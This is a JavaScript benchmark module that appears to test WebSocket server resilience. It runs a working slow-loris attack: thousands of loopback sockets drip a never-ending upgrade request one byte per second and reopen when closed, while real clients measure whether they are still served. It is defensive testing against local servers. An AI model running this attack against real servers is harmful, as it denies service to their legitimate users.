// Slow loris: N sockets from 127.0.0.1 each send one byte of an upgrade request per
// second (a request longer than the attack, so none completes); a socket the server
// closes is opened again a second later, as a real attacker would. Meanwhile real
// clients (ws's WebSocket, from 127.0.0.2) open in waves, several in parallel, and each
// counts as served once it is open and one message came back.
import net from 'node:net'
import { WebSocket as WsClient } from 'ws'

import { againstTarget, ATTACKER, CLIENT, delay, describeTally, HOST, median, sampleMemory, serversFor, tally, trackSocket } from '../lib.mjs'

export const name = 'slow-loris'
export const title = 'slow loris from one address, real clients from another'

const SETTINGS = {
  long: { sockets: 3000, durationMs: 30_000, waves: 6, parallel: 4, clientTimeoutMs: 10_000 },
  quick: { sockets: 1200, durationMs: 5_000, waves: 3, parallel: 4, clientTimeoutMs: 5_000 },
}
const SERVERS = [
  ['tether', 'port'],
  ['tether', 'server'],
  ['tether', 'noserver'],
  ['ws', 'port'],
]
/** Slow sockets opened at once while ramping up. */
const RAMP_BATCH = 200
/** A slow socket the server closed is opened again after this long. */
const REOPEN_MS = 1_000

export async function run({ quick, targets }) {
  const settings = quick ? SETTINGS.quick : SETTINGS.long
  const rows = []
  for (const [impl, mode] of serversFor(SERVERS, targets)) {
    const variant = `${settings.sockets} sockets x 1 B/s for ${settings.durationMs / 1000} s, ${settings.waves * settings.parallel} real clients`
    rows.push({ attack: name, variant, ...(await againstTarget(impl, mode, {}, (server, before) => attack(server, before, settings))) })
  }
  return rows
}

async function attack(server, before, { sockets, durationMs, waves, parallel, clientTimeoutMs }) {
  const memory = sampleMemory(server.pid)
  // A request head longer than the attack lasts, padding first: it never completes.
  const padding = 'a'.repeat(Math.ceil(durationMs / 1000) + 120)
  const request = Buffer.from(
    `GET /slow HTTP/1.1\r\nX-Padding: ${padding}\r\nHost: ${HOST}:${server.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  )
  const slow = { attempts: 0, connected: 0, open: new Set(), maxOpen: 0, outcomes: [], bytes: 0 }
  let running = true
  const reopenTimers = new Set()

  const openSlow = () =>
    new Promise((resolve) => {
      slow.attempts++
      const socket = trackSocket(net.connect({ port: server.port, host: HOST, localAddress: ATTACKER }))
      const entry = { socket, sent: 0, status: undefined, error: undefined }
      // A connection that neither opens nor fails (a full accept queue) does not hold up the ramp.
      setTimeout(resolve, 5_000).unref()
      socket.on('connect', () => {
        slow.connected++
        slow.open.add(entry)
        slow.maxOpen = Math.max(slow.maxOpen, slow.open.size)
        writeByte(entry)
        resolve()
      })
      socket.on('data', (chunk) => {
        entry.status ??= /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString('latin1', 0, 16))?.[1] ?? 'non-HTTP answer'
      })
      socket.on('error', (error) => (entry.error ??= error.code ?? error.message))
      socket.on('close', () => {
        resolve()
        slow.open.delete(entry)
        if (!running) return
        slow.outcomes.push(entry.status ? `HTTP ${entry.status}` : entry.error ? entry.error : 'closed without an answer')
        const timer = setTimeout(() => {
          reopenTimers.delete(timer)
          if (running) openSlow()
        }, REOPEN_MS)
        reopenTimers.add(timer)
      })
    })
  const writeByte = (entry) => {
    if (entry.sent >= request.length || entry.socket.destroyed) return
    entry.socket.write(request.subarray(entry.sent, entry.sent + 1))
    entry.sent++
    slow.bytes++
  }

  const started = performance.now()
  for (let opened = 0; opened < sockets; opened += RAMP_BATCH) {
    await Promise.all(Array.from({ length: Math.min(RAMP_BATCH, sockets - opened) }, openSlow))
  }
  const rampMs = performance.now() - started
  const ticker = setInterval(() => {
    for (const entry of slow.open) writeByte(entry)
  }, 1_000)

  // Real clients in waves spread over what is left of the attack.
  await delay(1_000)
  const clients = []
  const remaining = Math.max(0, durationMs - (performance.now() - started))
  const gap = remaining / waves
  for (let wave = 0; wave < waves; wave++) {
    const waveStarted = performance.now()
    clients.push(...(await Promise.all(Array.from({ length: parallel }, () => realClient(server.port, clientTimeoutMs)))))
    const rest = gap - (performance.now() - waveStarted)
    if (rest > 0 && wave < waves - 1) await delay(rest)
  }
  const left = durationMs - (performance.now() - started)
  if (left > 0) await delay(left)

  running = false
  clearInterval(ticker)
  for (const timer of reopenTimers) clearTimeout(timer)
  const openAtEnd = slow.open.size
  const during = await server.stats(5_000)
  for (const entry of slow.open) entry.socket.destroy()
  const { peak } = memory.stop()
  const settled = await server.settle(500)

  const served = clients.filter((c) => c.ok)
  const failures = tally(clients.filter((c) => !c.ok).map((c) => c.failure))
  const slowOutcomes = tally(slow.outcomes)
  const handshakeMedian = median(served.map((c) => c.handshakeMs))
  return {
    rss: { before, peak, after: settled.rss },
    attackerBytes: slow.bytes,
    realClients: `${served.length}/${clients.length}${served.length ? ` (median ${handshakeMedian.toFixed(0)} ms)` : ''}`,
    outcome:
      `slow sockets: ${slow.attempts} opened (${slow.maxOpen} at once), ${openAtEnd} still open at the end` +
      (slow.outcomes.length ? `; ended: ${describeTally(slowOutcomes)}` : '') +
      (clients.length > served.length ? `; real clients refused: ${describeTally(failures)}` : ''),
    measures: {
      realServed: served.length,
      realTotal: clients.length,
      handshakeMedianMs: handshakeMedian,
      realFailures: failures,
      real: clients,
      slowAttempts: slow.attempts,
      slowConnected: slow.connected,
      slowMaxOpen: slow.maxOpen,
      slowOpenAtEnd: openAtEnd,
      slowOutcomes,
      rampMs: Math.round(rampMs),
      limitStats: during?.limitStats,
      load: during?.load,
    },
  }
}

/** One real client: open, one message echoed, close. */
function realClient(port, timeoutMs) {
  return new Promise((resolve) => {
    const started = performance.now()
    let handshakeMs
    let result
    const ws = new WsClient(`ws://${HOST}:${port}/real`, { localAddress: CLIENT, handshakeTimeout: timeoutMs, perMessageDeflate: false })
    const done = (outcome) => {
      if (result) return
      result = { ...outcome, handshakeMs, totalMs: performance.now() - started }
      clearTimeout(timer)
      ws.terminate()
      resolve(result)
    }
    const timer = setTimeout(() => done({ ok: false, failure: 'no answer' }), timeoutMs + 2_000)
    ws.on('unexpected-response', (request, response) => {
      done({ ok: false, failure: `HTTP ${response.statusCode}` })
      response.resume()
    })
    ws.on('open', () => {
      handshakeMs = performance.now() - started
      ws.send('hello')
    })
    ws.on('message', () => done({ ok: true }))
    ws.on('error', (error) => done({ ok: false, failure: /timed out/.test(error.message) ? 'handshake timeout' : (error.code ?? error.message) }))
    ws.on('close', (code) => done({ ok: false, failure: `closed ${code}` }))
  })
}
